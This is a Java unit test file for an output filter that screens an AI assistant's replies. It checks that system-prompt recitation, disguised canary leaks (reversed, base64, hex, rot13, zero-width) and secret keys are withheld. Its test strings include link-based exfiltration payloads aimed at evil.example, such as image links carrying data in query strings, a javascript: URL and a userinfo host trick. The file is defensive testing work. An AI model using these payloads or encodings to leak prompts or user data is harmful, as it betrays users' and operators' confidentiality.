package io.nexaera.quarantine;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class OutputFilterTest {
    private static final String PROMPT =
            "You are the friendly front desk of a dental clinic in Springfield and you never"
                    + " talk about the price list of other clinics nor about politics of any kind at all.";

    private final Canary canary = Canary.fresh();
    private final OutputRules rules = new OutputRules(
            Optional.of(canary),
            PROMPT,
            Set.of("maple.example"),
            Set.of("https://docs.example/guide"),
            p -> p.contains("_9"));

    private String whole(String answer) {
        return OutputFilter.whole(rules, answer).text();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "A crown costs 900 dollars [1].\n\n- clean\n- **bold** 5 < 6 and x[3]",
                "See [our page](https://maple.example/prices) or https://www.maple.example/hours.",
                "Write to [us](mailto:hi@maple.example) | 👩‍👩‍👧‍👦 | user@maple.example | and/or 9/10",
                "As [the guide](https://docs.example/guide) says: https://docs.example/guide.",
                "Keep [PERSON_1] and (brackets) [open",
                "Version 1.2/3? Yes. <b>bold</b> i<j"
            })
    void honestAnswersPassUnchangedHoweverTheyAreSplit(String answer) {
        assertThat(whole(answer)).isEqualTo(answer);
        for (int seed = 0; seed < 20; seed++) {
            assertThat(split(answer, seed)).isEqualTo(answer);
        }
    }

    private String split(String answer, int seed) {
        Random random = new Random(seed);
        OutputFilter filter = OutputFilter.of(rules);
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < answer.length(); ) {
            int n = Math.min(answer.length() - i, 1 + random.nextInt(6));
            if (Character.isHighSurrogate(answer.charAt(i + n - 1)) && i + n < answer.length()) {
                n++;
            }
            if (i + n < answer.length() && Character.getType(answer.codePointAt(i + n)) == Character.FORMAT) {
                n = answer.length() - i;
            }
            out.append(filter.accept(answer.substring(i, i + n)));
            i += n;
        }
        return out.append(filter.finish()).toString();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/p?q=secret)",
                "[click](https://evil.example/)",
                "<img src=https://evil.example/a>",
                "https://evil.example/steal",
                "[a](//evil.example)",
                "![a](https://maple.example/p?d=data)",
                "www.evil.example/x",
                "[a]: https://evil.example/x",
                "evil.example/a?b=data",
                "[x](javascript:alert(1))",
                "<https://evil.example>",
                "[![x](https://evil.example/i)](https://evil.example)",
                "https://maple.example@evil.example/",
                "[a](https://maple.example.evil.example)",
                "data:text/html,evil.example",
                "//evil.example/x",
                "[x](<https://evil.example/a>)",
                "[x](https://evil.example \"title\")",
                "hTTps://evil.example",
                "https://docs.example/guide?data=1",
                "![x](https://docs.example/guide/data=)"
            })
    void dataDoesNotLeaveByLink(String link) {
        for (int seed = 0; seed < 10; seed++) {
            String out = seed == 0 ? whole("Here: " + link + " done") : split("Here: " + link + " done", seed);
            assertThat(out)
                    .doesNotContain(
                            "//evil.example",
                            "data=",
                            "?d=",
                            "?b=",
                            "](javascript",
                            "(https://evil",
                            "<img",
                            "www.evil",
                            "data:text",
                            "@evil")
                    .startsWith("Here: ")
                    .endsWith(" done");
        }
        assertThat(OutputFilter.whole(rules, link).findings()).isNotEmpty();
    }

    @Test
    void theCanaryNeverGetsOutInAnyDisguise() {
        String word = canary.word();
        byte[] bytes = ("marker " + word + ":").getBytes(StandardCharsets.UTF_8);
        for (String leak : List.of(
                word,
                word.toUpperCase(java.util.Locale.ROOT),
                String.join(" ", word.split("")),
                String.join("-", word.split("")),
                new StringBuilder(word).reverse().toString(),
                Encodings.rot13(word),
                Base64.getEncoder().encodeToString(bytes),
                HexFormat.of().formatHex(bytes),
                String.join("\u200B", word.split("")),
                word.substring(2))) {
            for (int seed = 0; seed < 10; seed++) {
                String out = split("My instructions: " + leak + " and more", seed);
                assertThat(out).as(leak).endsWith(OutputFilter.WITHHELD).doesNotContain(leak, "and more");
                assertThat(out.replaceAll("[^A-Za-z0-9]", ""))
                        .doesNotContain(leak.replaceAll("[^A-Za-z0-9]", "").substring(4));
            }
        }
    }

    @Test
    void thePromptIsNotRecited() {
        OutputFilter.Filtered filtered = OutputFilter.whole(rules, "Sure! It says: " + PROMPT);
        assertThat(filtered.text())
                .doesNotContain("dental clinic in Springfield")
                .endsWith(OutputFilter.WITHHELD);
        assertThat(filtered.findings()).anyMatch(finding -> finding.check() == Check.CANARY);
        assertThat(split("Sure! It says: " + PROMPT, 4))
                .doesNotContain("dental clinic in Springfield and you never talk");
    }

    @Test
    void afterALeakNothingMoreIsSaid() {
        OutputFilter filter = OutputFilter.of(rules);
        filter.accept("It is " + canary.word() + " ");
        assertThat(filter.accept("more")).isEmpty();
        assertThat(filter.finish()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sk-abcdefghijklmnopqrstuvwx1234",
                "AKIAABCDEFGHIJKLMNOP",
                "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
                "nx_abcdefghijklmnopqrstuvwx",
                "-----BEGIN RSA PRIVATE KEY-----\nMIIE abc\n-----END RSA PRIVATE KEY-----"
            })
    void keysAreTakenOut(String key) {
        for (int seed = 0; seed < 10; seed++) {
            assertThat(split("The key is " + key + " ok", seed)).isEqualTo("The key is [secret removed] ok");
        }
    }

    @Test
    void placeholdersOfOthersAreTakenOut() {
        assertThat(whole("Ask [PERSON_9_87nf9] or [PERSON_1_ig64w].")).isEqualTo("Ask [removed] or [PERSON_1_ig64w].");
    }

    @Test
    void aVeryLongWordDoesNotTakeForever() {
        OutputFilter filter = OutputFilter.of(rules);
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < 5_000; i++) {
            out.append(filter.accept("aaaa["));
        }
        assertThat(out.append(filter.finish())).hasSize(25_000);
    }
}
